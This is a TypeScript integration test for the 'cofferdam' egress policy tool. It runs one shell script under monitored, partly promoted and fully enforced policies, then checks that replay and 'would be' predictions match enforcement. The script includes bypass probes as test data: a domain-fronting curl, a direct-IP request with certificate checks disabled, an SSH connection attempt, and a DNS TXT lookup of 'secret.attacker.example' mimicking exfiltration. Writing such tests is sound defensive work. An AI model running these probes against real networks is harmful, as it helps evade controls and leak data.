/**
 * Monitor first: the same script meets a policy that only watches, the same policy with some of its rules promoted, and with everything
 * enforced. What the first log said would be is what the last log says was; what replay over the first says of the promoted rules is what
 * the second says.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { compile } from '@cofferdam/compiler';
import { topology } from '@cofferdam/datapath';
import { type AnyRecord, destinationText, encodeRecord, type FlowRecord, requestText } from '@cofferdam/flows';
import { commandAddresses, gatewayAddresses } from '@cofferdam/gateway';
import { loadPlan } from '@cofferdam/plan';
import { parsePolicy } from '@cofferdam/policy';
import { createReplay, type Replayed } from '@cofferdam/replay';
import { type Lab, startLab } from '@cofferdam/testkit/lab';
import { cofferdam, containedUnavailable, runContained } from './contained.ts';

const rules = {
  'no-ssh': 'action: deny, to: [anywhere], protocol: tcp, ports: [22]',
  'no-posts': 'action: deny, to: [anywhere], web: [models], protocol: tcp, http: { methods: [POST] }',
  code: 'action: permit, to: [public-internet], web: [code], protocol: tcp, ports: [443], tls: required',
  models: 'action: permit, to: [public-internet], web: [models], protocol: tcp, ports: [80]',
  // Once it is enforced, the proxy reads what the kernel passes on unread until then.
  'old-web': 'action: permit, to: [public-internet], web: [old-web], protocol: tcp, ports: [8080], tls: absent',
  echo: 'action: permit, to: [public-internet], web: [echo], protocol: udp, ports: [7]',
} as const;
type RuleName = keyof typeof rules;
const everyRule = Object.keys(rules) as RuleName[];

const webGroups = {
  code: 'github.com',
  models: 'api.models.example',
  'old-web': 'example.com',
  echo: 'echo.example',
};

const policyOf = (enforced: readonly RuleName[], containment: 'monitor' | 'enforce'): string =>
  [
    `kind: SmartGroup\nmetadata: { name: agents }\nspec: { containment: ${containment}, any: [{ agent: agent }] }`,
    ...Object.entries(webGroups).map(
      ([name, domain]) => `kind: WebGroup\nmetadata: { name: ${name} }\nspec: { domains: [${domain}] }`,
    ),
    `kind: Ruleset\nmetadata: { name: agent }\nspec:\n  rules:\n${everyRule
      .map((name) => {
        const mode = enforced.includes(name) ? 'enforce' : 'monitor';
        return `    - { name: ${name}, mode: ${mode}, from: [agents], ${rules[name]} }`;
      })
      .join('\n')}`,
  ]
    .map((document) => `apiVersion: cofferdam.dev/v1\n${document}`)
    .join('\n---\n');

const curl = 'curl -sS --max-time 5 -o /dev/null -w "%{http_code}\\n"';
/** Each line says what came back. */
const script = [
  `${curl} https://github.com/`,
  `${curl} https://gist.github.com/`,
  `${curl} --connect-to gist.github.com:443:github.com:443 https://gist.github.com/`,
  `${curl} -k https://151.101.0.223/`,
  `${curl} http://example.com:8080/`,
  `${curl} http://api.models.example/a`,
  `${curl} -d x http://api.models.example/b`,
  'timeout 3 nc -w 1 github.com 22 </dev/null | head -c 8; echo',
  'echo over | timeout 3 nc -u -w 1 echo.example 7; echo',
  'dig +short +tries=1 +time=2 TXT secret.attacker.example; echo',
]
  .map((line) => `${line} 2>/dev/null || true`)
  .join('\n');

const isFlow = (record: AnyRecord): record is FlowRecord => record.kind === 'flow' || record.kind === 'request';

/** What a record is about, so that the same attempt is found in another log, whichever path it took there. */
const attemptOf = (record: FlowRecord): string => {
  const { addressNames, claimedName, destination, protocol } = record;
  const fronts = claimedName.state === 'known' && !addressNames.includes(claimedName.value);
  const asked = destination.port === 80 ? ` ${requestText(record)}` : '';
  return `${protocol} ${destinationText(record)}${asked}${fronts ? ` for ${claimedName.value}` : ''}`;
};

interface Attempt {
  readonly verdict: string;
  readonly record: FlowRecord;
}

/** The last record of each flow and request, by attempt. An attempt that is made twice is denied if it is denied once. */
const attemptsIn = (records: readonly AnyRecord[]): ReadonlyMap<string, Attempt> => {
  const ended = [...new Map(records.filter(isFlow).map((record) => [record.id, record])).values()];
  const carriers = new Set(ended.flatMap(({ flow }) => flow ?? []));
  const found = new Map<string, Attempt>();
  for (const record of ended) {
    if (carriers.has(record.id)) continue;
    const attempt = attemptOf(record);
    if (found.get(attempt)?.verdict !== 'deny') found.set(attempt, { verdict: record.verdict, record });
  }
  return found;
};

const refusedNames = (records: readonly AnyRecord[]): ReadonlySet<string> =>
  new Set(records.flatMap((record) => (record.kind === 'dns' && record.verdict === 'deny' ? [record.name] : [])));

const isRefused = (refused: ReadonlySet<string>, { addressNames }: FlowRecord): boolean =>
  addressNames.some((name) => refused.has(name));

const digest = (text: string): string => createHash('sha256').update(text).digest('hex');

/** What replay says of each record under a policy. */
const replay = (records: readonly AnyRecord[], text: string): readonly (readonly [AnyRecord, Replayed])[] => {
  const { policy, diagnostics } = parsePolicy([{ file: 'policy.yaml', text }]);
  if (policy === undefined) throw new Error(JSON.stringify(diagnostics));
  const { plan } = compile(policy, {
    workloads: [{ name: 'agent', addresses: commandAddresses, interface: topology.agentInterface, labels: {} }],
    resolved: new Map(),
    dnsMode: 'synthetic',
    gatewayAddresses,
    monitor: false,
    at: Date.now(),
    revision: 1,
    digest,
  });
  const loaded = loadPlan(plan);
  const said: (readonly [AnyRecord, Replayed])[] = [];
  const replaying = createReplay({
    planAt: () => ({ loaded }),
    give: (record, replayed) => said.push([record, replayed]),
  });
  for (const record of records) replaying.add(record);
  replaying.finish();
  return said;
};

describe('from monitor to enforce', { skip: containedUnavailable() }, () => {
  let lab: Lab;
  const logs: Record<'monitored' | 'promoted' | 'enforced', readonly AnyRecord[]> = {
    monitored: [],
    promoted: [],
    enforced: [],
  };
  const outputs: Record<keyof typeof logs, string> = { monitored: '', promoted: '', enforced: '' };
  const promoted: readonly RuleName[] = ['no-ssh', 'no-posts', 'old-web'];
  const policies = {
    monitored: policyOf([], 'monitor'),
    promoted: policyOf(promoted, 'monitor'),
    enforced: policyOf(everyRule, 'enforce'),
  };

  before(async () => {
    lab = await startLab();
    for (const stage of ['monitored', 'promoted', 'enforced'] as const) {
      const made = await runContained(lab, {
        policy: policies[stage],
        command: ['bash', '-c', script],
        options: ['--agent', 'agent'],
        timeout: 120_000,
      });
      logs[stage] = made.records;
      outputs[stage] = made.stdout;
    }
  });
  after(() => lab?.stop());

  test('monitored, everything arrives; enforced, what is named', () => {
    const lines = (stage: keyof typeof logs): readonly string[] =>
      outputs[stage].split('\n').filter((line) => line !== '');
    assert.deepEqual(lines('monitored').slice(0, 7), ['200', '200', '200', '200', '200', '200', '200']);
    assert.match(outputs.monitored, /SSH-2\.0/);
    assert.match(outputs.monitored, /over/);
    assert.deepEqual(lines('enforced').slice(0, 7), ['200', '000', '000', '000', '200', '200', '403']);
    assert.doesNotMatch(outputs.enforced, /SSH-2\.0/);
    assert.match(outputs.enforced, /over/);
  });

  test('what the first two logs said would be is what the last says was', () => {
    const ends = attemptsIn(logs.enforced);
    const refused = refusedNames(logs.enforced);
    const told: Record<string, number> = {};
    for (const stage of ['monitored', 'promoted'] as const)
      for (const [attempt, { record }] of attemptsIn(logs[stage])) {
        const { wouldBe } = record;
        if (wouldBe === undefined) continue;
        const said = wouldBe === 'unknown' ? wouldBe : wouldBe.verdict;
        told[said] = (told[said] ?? 0) + 1;
        if (wouldBe === 'unknown') continue;
        const end = ends.get(attempt);
        if (end === undefined) assert.ok(isRefused(refused, record), `${stage}: ${attempt} is not in the last log`);
        else assert.equal(end.verdict, wouldBe.verdict, `${stage}: ${attempt}, ${JSON.stringify(wouldBe)}`);
      }
    assert.ok(told.permit! > 2 && told.deny! > 2, JSON.stringify(told));
  });

  for (const [what, to] of [
    ['promoting some rules', 'promoted'],
    ['promoting everything', 'enforced'],
  ] as const)
    test(`replay over the first log says what ${what} did`, () => {
      const ends = attemptsIn(logs[to]);
      const refused = refusedNames(logs[to]);
      const told = { permit: 0, deny: 0, unknown: 0 };
      for (const [record, replayed] of replay(logs.monitored, policies[to])) {
        told[replayed.kind === 'unknown' ? 'unknown' : replayed.verdict]++;
        if (replayed.kind === 'unknown') continue;
        if (record.kind === 'dns') {
          const same = logs[to].find(
            (other) => other.kind === 'dns' && other.name === record.name && other.type === record.type,
          );
          if (same !== undefined) assert.equal(same.verdict, replayed.verdict, `${record.name} ${record.type}`);
          continue;
        }
        if (!isFlow(record)) continue;
        const end = ends.get(attemptOf(record));
        const verdict = end?.verdict ?? (isRefused(refused, record) ? 'deny' : 'no record');
        assert.equal(verdict, replayed.verdict, `${attemptOf(record)} ${JSON.stringify(replayed)}`);
      }
      assert.ok(told.permit > 5 && told.deny > 0 && told.unknown < 5, JSON.stringify(told));
    });

  test('`cofferdam replay` counts what promoting does', async () => {
    const [policy, log] = ['policy.yaml', 'flows.jsonl'].map((name) => join(lab.directory, name)) as [string, string];
    await writeFile(policy, policies.monitored);
    await writeFile(log, `${logs.monitored.map(encodeRecord).join('\n')}\n`);
    const words = promoted.flatMap((name) => ['--promote', name]);
    const { stdout, stderr, code } = await lab.exec('host', [
      cofferdam,
      'replay',
      '--policy',
      policy,
      ...words,
      '--json',
      log,
    ]);
    assert.equal(code, 0, stderr);
    const said: {
      readonly promoted: readonly string[];
      readonly changes: readonly { readonly change: string; readonly destination: string; readonly after: string }[];
    } = JSON.parse(stdout);
    assert.deepEqual(
      said.promoted,
      promoted.map((name) => `agent/${name}`),
    );
    assert.deepEqual(
      said.changes
        .filter(({ change }) => change === 'newly-denied')
        .map(({ destination, after: by }) => `${destination} ${by}`)
        .sort(),
      ['api.models.example:80 agent/no-posts', 'github.com:22 agent/no-ssh'],
    );
  });
});
